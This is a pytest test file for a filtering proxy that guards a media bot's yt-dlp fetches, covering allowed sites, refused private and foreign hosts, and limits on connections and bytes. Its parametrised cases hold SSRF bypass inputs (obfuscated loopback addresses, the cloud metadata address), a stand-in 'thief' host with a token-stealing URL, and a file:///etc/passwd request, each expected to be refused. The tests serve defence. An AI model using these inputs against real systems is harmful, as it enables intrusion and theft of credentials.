"""The filtering proxy alone: allowed and refused targets, limits, and its connections."""

from __future__ import annotations

import asyncio
import dataclasses
import socket
from pathlib import Path

import pytest

from bot.sources.proxy import FilteringProxy
from bot.sources.sites import SITES, Site
from tests.bot.sources.hostile import FakeServer, response, start_server

ANY_HOST = Site("any", "Any Site", (), (), networks=("*",))


async def ask(proxy: FilteringProxy, first: str, *headers: str, more: bytes = b"") -> bytes:
    """Send one request and return the whole response."""
    return await ask_raw(proxy, "\r\n".join([first, *headers, "", ""]), more)


async def ask_raw(proxy: FilteringProxy, text: str, more: bytes = b"") -> bytes:
    reader, writer = await asyncio.open_unix_connection(sock=proxy.connect())
    try:
        writer.write(text.encode("latin-1") + more)
        async with asyncio.timeout(3):
            return await reader.read()
    except (ConnectionResetError, BrokenPipeError):
        return b""
    finally:
        writer.close()


@pytest.fixture
async def proxy(policy, dns):
    async with FilteringProxy(ANY_HOST, policy=policy, resolve=dns, budget=10_000) as proxy:
        yield proxy


async def test_proxy_forwards_plain_http(proxy, origin):
    origin.serve("/x", b"sound")
    got = await ask(proxy, "GET http://music.test/x?a=1 HTTP/1.1", "Host: music.test", "X-A: b")
    assert got.endswith(b"sound")
    request = origin.requests[0]
    assert request.path == "/x?a=1"
    assert request.headers["x-a"] == "b"
    assert "proxy-authorization" not in request.headers


async def test_proxy_tunnels_connect(proxy, origin):
    origin.serve("/x", b"sound")
    got = await ask(
        proxy, "CONNECT music.test:443 HTTP/1.1", more=b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n"
    )
    assert got.startswith(b"HTTP/1.1 200")
    assert got.endswith(b"sound")


@pytest.mark.parametrize(
    "first",
    [
        "GET http://inside.test/secret HTTP/1.1",
        "GET http://127.0.0.1:{port}/secret HTTP/1.1",
        "GET http://2130706433:{port}/secret HTTP/1.1",
        "GET http://0x7f.1:{port}/secret HTTP/1.1",
        "GET http://music.test@127.0.0.1:{port}/secret HTTP/1.1",
        "GET http://169.254.169.254/latest HTTP/1.1",
        "CONNECT 127.0.0.1:{port} HTTP/1.1",
        "CONNECT inside.test:443 HTTP/1.1",
        "CONNECT 0:{port} HTTP/1.1",
    ],
)
async def test_proxy_refuses_private_targets(first, proxy, forbidden):
    got = await ask(proxy, first.format(port=forbidden.port))
    assert got.startswith(b"HTTP/1.1 403")
    assert "private network" in str(proxy.refused)


async def test_proxy_ignores_the_host_header(proxy, origin, forbidden):
    origin.serve("/x", b"sound")
    got = await ask(proxy, "GET http://music.test/x HTTP/1.1", f"Host: 127.0.0.1:{forbidden.port}")
    assert got.endswith(b"sound")


async def test_proxy_serves_one_request_per_connection(proxy, origin):
    origin.serve("/x", b"sound")
    second = b"GET http://inside.test/secret HTTP/1.1\r\n\r\n"
    got = await ask(proxy, "GET http://music.test/x HTTP/1.1", more=second)
    assert got.count(b"HTTP/1.1") == 1


def listening_ports() -> set[str]:
    """Return the local addresses that TCP sockets of this machine listen on."""
    lines = Path("/proc/net/tcp").read_text().splitlines()[1:]
    return {line.split()[1] for line in lines if line.split()[3] == "0A"}


@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs Linux")
async def test_proxy_listens_on_no_port(policy, dns, origin):
    before = listening_ports()
    async with FilteringProxy(ANY_HOST, policy=policy, resolve=dns, budget=1):
        assert len(listening_ports() - before) == 0


# --- the site's own hosts -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "first",
    [
        "GET http://thief.test/steal?token=x HTTP/1.1",
        "CONNECT thief.test:443 HTTP/1.1",
        "CONNECT bandcamp.com.thief.test:443 HTTP/1.1",
        "CONNECT thiefbandcamp.com:443 HTTP/1.1",
        "CONNECT 203.0.113.7:443 HTTP/1.1",
        "CONNECT soundcloud.com:443 HTTP/1.1",
    ],
)
async def test_proxy_refuses_hosts_of_other_sites_without_a_look_up(first, policy, dns, origin):
    site = SITES["bandcamp"]
    async with FilteringProxy(site, policy=policy, resolve=dns, budget=1) as proxy:
        assert (await ask(proxy, first)).startswith(b"HTTP/1.1 403")
    host = first.split(" ")[1].removeprefix("http://").partition("/")[0].partition(":")[0]
    assert f"leads to {host}, which is not a known host of Bandcamp" in str(proxy.refused)
    assert not dns.lookups
    assert origin.connections == 0


@pytest.mark.parametrize("host", ["bandcamp.com", "someone.BandCamp.com", "t4.bcbits.com."])
async def test_proxy_reaches_pages_and_media_of_its_site(host, policy, dns, origin):
    origin.serve("/x", b"sound")
    dns.set(host.lower(), [("127.0.0.1", origin.port)])
    site = SITES["bandcamp"]
    async with FilteringProxy(site, policy=policy, resolve=dns, budget=10_000) as proxy:
        assert (await ask(proxy, f"GET http://{host}/x HTTP/1.1")).endswith(b"sound")


# --- the channel of the yt-dlp process ----------------------------------------------------------


def request_connections(channel: socket.socket, count: int) -> list[socket.socket]:
    """Request connections like the yt-dlp process; return those that the proxy sent."""
    channel.sendall(b"c" * count)
    replies = [socket.recv_fds(channel, 1, 1)[1] for _ in range(count)]
    return [socket.socket(fileno=fds[0]) for fds in replies if fds]


async def test_channel_sends_a_connection_for_each_request(proxy, origin):
    origin.serve("/x", b"sound")
    channel = socket.socket(fileno=socket.dup(proxy.channel))
    for connection in await asyncio.to_thread(request_connections, channel, 2):
        reader, writer = await asyncio.open_unix_connection(sock=connection)
        writer.write(b"GET http://music.test/x HTTP/1.1\r\n\r\n")
        assert (await reader.read()).endswith(b"sound")
        writer.close()
    channel.close()


async def test_channel_sends_no_connection_above_the_limit(proxy):
    channel = socket.socket(fileno=socket.dup(proxy.channel))
    connections = await asyncio.to_thread(request_connections, channel, 100)
    assert len(connections) == 64
    for connection in (*connections, channel):
        connection.close()


async def test_channel_that_is_never_read_is_abandoned(proxy):
    channel = socket.socket(fileno=socket.dup(proxy.channel))

    async def request_without_receiving() -> None:
        for _ in range(1000):
            channel.sendall(b"c")
            await asyncio.sleep(0.001)

    with pytest.raises(BrokenPipeError):
        await request_without_receiving()
    channel.close()


async def test_channel_is_closed_after_too_many_requests(proxy):
    channel = socket.socket(fileno=socket.dup(proxy.channel))

    def request_until_refused() -> int:
        for count in range(10_000):
            try:
                (connection,) = request_connections(channel, 1)
            except (OSError, ValueError):
                return count
            connection.close()
        return 10_000

    assert await asyncio.to_thread(request_until_refused) == 2000
    channel.close()


@pytest.mark.parametrize(
    "first",
    [
        "GET /x HTTP/1.1",
        "GET file:///etc/passwd HTTP/1.1",
        "GET ftp://music.test/x HTTP/1.1",
        "GET https://music.test/x HTTP/1.1",
        "CONNECT music.test HTTP/1.1",
        "CONNECT music.test:x HTTP/1.1",
        "CONNECT / HTTP/1.1",
        "nonsense",
        "",
    ],
)
async def test_proxy_invalid_request_returns_400(first, proxy, origin):
    assert (await ask(proxy, first)).startswith(b"HTTP/1.1 400")
    assert origin.connections == 0


async def test_proxy_endless_head_closes_the_connection(proxy):
    assert await ask_raw(proxy, "GET http://music.test/ HTTP/1.1\r\nX: " + "a" * 200_000) == b""


async def test_proxy_stops_at_its_byte_budget(proxy, origin):
    origin.serve("/x", b"1" * 50_000)
    got = await ask(proxy, "GET http://music.test/x HTTP/1.1")
    assert proxy.over_budget
    assert len(got) <= 10_000


async def test_proxy_unreachable_target_returns_502(policy, dns):
    dns.set("closed.test", [("127.0.0.1", 1)])
    opened = dataclasses.replace(policy, open_endpoints=frozenset({("127.0.0.1", 1)}))
    async with FilteringProxy(ANY_HOST, policy=opened, resolve=dns, budget=1) as proxy:
        got = await ask(proxy, "GET http://closed.test/x HTTP/1.1")
        assert got.startswith(b"HTTP/1.1 502")
        assert proxy.refused is None


async def test_proxy_close_ends_open_connections(policy, dns, origin):
    async def answer(_, writer):
        writer.write(response(b"", "Content-Length: 9"))
        await writer.drain()
        await asyncio.sleep(30)

    origin.routes["/x"] = answer
    async with FilteringProxy(ANY_HOST, policy=policy, resolve=dns, budget=10_000) as proxy:
        reader, writer = await asyncio.open_unix_connection(sock=proxy.connect())
        writer.write(b"GET http://music.test/x HTTP/1.1\r\n\r\n")
        head = await reader.readuntil(b"\r\n\r\n")  # the connection reached the origin
    assert head.startswith(b"HTTP/1.1 200")
    async with asyncio.timeout(20):  # the origin would keep it open for longer
        assert await reader.read() == b""
    writer.close()


async def test_upstream_proxy_receives_the_checked_address(policy, dns, origin):
    origin.serve("/x", b"sound")
    upstream = FakeServer()
    requested = []

    async def handle(reader, writer):
        head = await reader.readuntil(b"\r\n\r\n")
        requested.append(head.split(b"\r\n")[0])
        there = await asyncio.open_connection("127.0.0.1", origin.port)
        writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
        there[1].write(await reader.readuntil(b"\r\n\r\n"))
        writer.write(await there[0].read())
        await writer.drain()
        there[1].close()
        writer.close()

    upstream.handle = handle
    server = await start_server(upstream)
    chained = dataclasses.replace(policy, upstream_proxy=f"http://127.0.0.1:{upstream.port}")
    async with FilteringProxy(ANY_HOST, policy=chained, resolve=dns, budget=10_000) as proxy:
        got = await ask(proxy, "GET http://music.test/x HTTP/1.1")
        assert got.endswith(b"sound")
        inside = await ask(proxy, "GET http://inside.test/secret HTTP/1.1")
        assert inside.startswith(b"HTTP/1.1 403")
    server.close()
    assert requested == [f"CONNECT 127.0.0.1:{origin.port} HTTP/1.1".encode()]
